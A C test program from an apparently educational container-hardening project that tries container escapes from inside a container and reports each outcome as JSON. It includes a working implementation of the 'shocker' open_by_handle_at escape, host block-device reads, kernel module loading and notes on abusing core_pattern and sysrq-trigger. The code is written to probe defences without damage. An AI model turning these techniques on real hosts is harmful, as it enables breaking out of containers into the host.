/* Chapter 08: the attacks that root in a container tries, one JSON line each.

   Built by chapters/08/conftest.py with `gcc -static -O1` (the busybox image has no C library),
   and run inside a container:  /md-attacks/attacks [--ptrace PID]

       {"attack": "load-module", "ok": false, "errno": "EPERM", "detail": "finit_module"}

   "ok" says that the attack got past the kernel's permission check: the lock did not stop it.
   "errno" is what the kernel answered (null when the call worked), and it names the lock that
   answered: EPERM from seccomp or a missing capability, EPERM from the device cgroup, EROFS from
   a read-only bind mount... docs/08-hardening.md#proof-by-attack reads them.

   Every attack is harmless to the host even when it gets through (under --privileged): it opens
   without writing, reads a few bytes, sets nothing, and undoes what it made (mounts, nodes). */

#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

/* One line of JSON. `err` is 0 when the call worked. */
static void report(const char *attack, int ok, int err, const char *detail)
{
    printf("{\"attack\": \"%s\", \"ok\": %s, \"errno\": ", attack, ok ? "true" : "false");
    if (err)
        printf("\"%s\"", strerrorname_np(err));
    else
        printf("null");
    printf(", \"detail\": \"%s\"}\n", detail);
    fflush(stdout);
}

/* Load a kernel module: code that runs as the kernel itself. finit_module() checks
   CAP_SYS_MODULE first, then reads the file: /dev/null is no regular file, so a caller that got
   past the check hears EINVAL, and nothing is ever loaded. */
static void load_module(void)
{
    int fd = open("/dev/null", O_RDONLY | O_CLOEXEC);
    long r = syscall(SYS_finit_module, fd, "", 0);
    int err = r < 0 ? errno : 0;
    close(fd);
    report("load-module", err != EPERM, err, "finit_module(/dev/null)");
}

/* Make a node for the first SCSI disk (block 8:0) and read it: the whole disk, every
   container's files and the host's, below any file permission. CAP_MKNOD is one of Docker's
   defaults (images carry device nodes), so mknod works; the device cgroup is what refuses the
   open. A host without an 8:0 disk answers ENXIO: the lock let us through, the disk is not there. */
static void read_block_device(void)
{
    const char *node = "/tmp/md-disk";
    char detail[64], sector[512];
    mkdir("/tmp", 01777);
    unlink(node);
    if (mknod(node, S_IFBLK | 0600, makedev(8, 0)) < 0) {
        report("read-block-device", 0, errno, "mknod b 8 0");
        return;
    }
    int fd = open(node, O_RDONLY | O_CLOEXEC);
    int err = fd < 0 ? errno : 0;
    if (fd >= 0) {
        ssize_t n = read(fd, sector, sizeof sector);
        snprintf(detail, sizeof detail, "opened b 8 0, read %zd bytes", n);
        close(fd);
    } else {
        snprintf(detail, sizeof detail, "mknod b 8 0 worked, open failed");
    }
    unlink(node);
    report("read-block-device", err != EPERM && err != EACCES, err, detail);
}

/* Mount a filesystem of our own (needs CAP_SYS_ADMIN): a new proc shows /proc without the
   masks over /proc/kcore and friends; a new sysfs, read-write, reaches the host's devices. */
static void mount_new(const char *attack, const char *fstype, const char *dir, unsigned long flags)
{
    mkdir("/tmp", 01777);
    mkdir(dir, 0700);
    int err = mount(fstype, dir, fstype, flags, NULL) < 0 ? errno : 0;
    if (!err)
        umount2(dir, MNT_DETACH);
    rmdir(dir);
    report(attack, !err, err, fstype);
}

/* Open a file for writing, never write: echo c > /proc/sysrq-trigger would crash the host;
   /proc/sys/kernel/core_pattern names a program the host runs, as root, at each crash dump.
   Docker bind-mounts both read-only over themselves: the open says EROFS. */
static void open_for_writing(const char *attack, const char *path)
{
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    int err = fd < 0 ? errno : 0;
    if (fd >= 0)
        close(fd);
    report(attack, !err, err, path);
}

/* /proc/kcore is the host's memory as an ELF core file; /proc/timer_list shows the host's
   timers, with the pids and names of the host's processes. Docker masks both: /dev/null bound
   over each, so the open works and the read finds nothing (0 bytes, no error). ok is whether we
   read the real thing, which starts with `magic`. */
static void read_masked(const char *attack, const char *path, const char *magic)
{
    char head[16] = {0}, detail[96];
    size_t want = strlen(magic);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        report(attack, 0, errno, path);
        return;
    }
    ssize_t n = read(fd, head, want);
    int err = n < 0 ? errno : 0;
    close(fd);
    int real = n == (ssize_t)want && memcmp(head, magic, want) == 0;
    snprintf(detail, sizeof detail, "%s: read %zd bytes%s", path, n, real ? ", the real thing" : "");
    report(attack, real, err, detail);
}

/* Change the host's clock (the clock is not namespaced). settimeofday(NULL, NULL) makes the
   kernel check CAP_SYS_TIME, and Docker's seccomp profile filter the call, exactly as for a
   real change; with nothing to set, it changes nothing when it gets through. */
static void set_time(void)
{
    int err = syscall(SYS_settimeofday, NULL, NULL) < 0 ? errno : 0;
    report("set-time", !err, err, "settimeofday(NULL, NULL)");
}

/* A new user namespace gives its creator every capability again, over the namespace's own
   objects: more kernel code to attack (mounts, netfilter...) without being root on the host.
   Tried in a child, so that we stay where we are; the child says its effective set. */
static void unshare_user_namespace(void)
{
    int pipefd[2];
    char caps[64] = "";
    if (pipe(pipefd) < 0)
        return;
    pid_t child = fork();
    if (child == 0) {
        int err = unshare(CLONE_NEWUSER) < 0 ? errno : 0;
        if (!err) {
            char line[256];
            FILE *status = fopen("/proc/self/status", "r");
            while (status && fgets(line, sizeof line, status))
                if (strncmp(line, "CapEff:", 7) == 0)
                    dprintf(pipefd[1], "CapEff %s", line + 8);
        }
        _exit(err);
    }
    close(pipefd[1]);
    ssize_t n = read(pipefd[0], caps, sizeof caps - 1);
    close(pipefd[0]);
    caps[n > 0 ? n - 1 : 0] = 0; /* drop the newline */
    int status;
    waitpid(child, &status, 0);
    int err = WIFEXITED(status) ? WEXITSTATUS(status) : EINTR;
    report("unshare-userns", !err, err, err ? "unshare(CLONE_NEWUSER)" : caps);
}

/* Attach to a process that holds more than we do: its memory and registers would be ours.
   The kernel lets a tracer attach only when the target's permitted capabilities are a subset
   of its own, or with CAP_SYS_PTRACE. On success: wait for the stop, and let go at once. */
/* --8<-- [start:ptrace] */
static void ptrace_outside(pid_t target)
{
    char detail[64];
    snprintf(detail, sizeof detail, "PTRACE_ATTACH %d", (int)target);
    if (ptrace(PTRACE_ATTACH, target, NULL, NULL) < 0) {
        report("ptrace-outside", 0, errno, detail);
        return;
    }
    int status;
    waitpid(target, &status, __WALL);
    ptrace(PTRACE_DETACH, target, NULL, NULL);
    report("ptrace-outside", 1, 0, detail);
}
/* --8<-- [end:ptrace] */

/* The "shocker" escape (2014). open_by_handle_at() opens a file by the handle its filesystem
   gives it (ext4: inode number and generation), with no path, so no mount and no pivot_root
   stands in the way: any mount of the filesystem serves as `mount_fd`. Inode 2 is the root of
   every ext2/3/4 filesystem, and generation 0 matches any. So a handle {2, 0} on a mount that
   comes from the host's disk (a bind mount) opens the root of that disk. Needs
   CAP_DAC_READ_SEARCH; Docker drops it, and its seccomp profile refuses the call. */
/* --8<-- [start:shocker] */
struct ext4_handle {
    struct file_handle header; /* handle_bytes, handle_type */
    unsigned int ino, generation; /* FILEID_INO32_GEN: the two words ext4 encodes */
};

static void shocker(const char *mount_path)
{
    struct ext4_handle h = {.header = {.handle_bytes = 8, .handle_type = 1}, .ino = 2, .generation = 0};
    char detail[2048];
    int mount_fd = open(mount_path, O_RDONLY | O_CLOEXEC);
    if (mount_fd < 0) {
        report("shocker", 0, errno, mount_path);
        return;
    }
    int dir = syscall(SYS_open_by_handle_at, mount_fd, &h, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    int err = dir < 0 ? errno : 0;
    close(mount_fd);
    if (dir < 0) {
        report("shocker", err != EPERM, err, mount_path);
        return;
    }
    /* List what we reached: the names, '/'-separated, for the test to compare with the host's. */
    DIR *listing = fdopendir(dir);
    struct dirent *entry;
    size_t used = snprintf(detail, sizeof detail, "%s:", mount_path);
    while (listing && (entry = readdir(listing)) && used < sizeof detail - 300)
        if (strcmp(entry->d_name, ".") && strcmp(entry->d_name, ".."))
            used += snprintf(detail + used, sizeof detail - used, "/%s", entry->d_name);
    if (listing)
        closedir(listing);
    report("shocker", 1, 0, detail);
}
/* --8<-- [end:shocker] */

int main(int argc, char **argv)
{
    pid_t ptrace_target = 0;
    const char *shocker_mount = "/md-attacks"; /* the bind mount this program came in by */
    for (int i = 1; i + 1 < argc; i += 2) {
        if (strcmp(argv[i], "--ptrace") == 0)
            ptrace_target = atoi(argv[i + 1]);
        else if (strcmp(argv[i], "--shocker-mount") == 0)
            shocker_mount = argv[i + 1];
    }
    load_module();
    read_block_device();
    mount_new("mount-proc", "proc", "/tmp/md-proc", MS_NOSUID | MS_NODEV | MS_NOEXEC);
    mount_new("mount-sysfs-rw", "sysfs", "/tmp/md-sys", 0);
    open_for_writing("write-sysrq-trigger", "/proc/sysrq-trigger");
    open_for_writing("write-proc-sys", "/proc/sys/kernel/core_pattern");
    read_masked("read-kcore", "/proc/kcore", "\177ELF");
    read_masked("read-timer-list", "/proc/timer_list", "Timer List");
    set_time();
    unshare_user_namespace();
    if (ptrace_target)
        ptrace_outside(ptrace_target);
    shocker(shocker_mount);
    return 0;
}
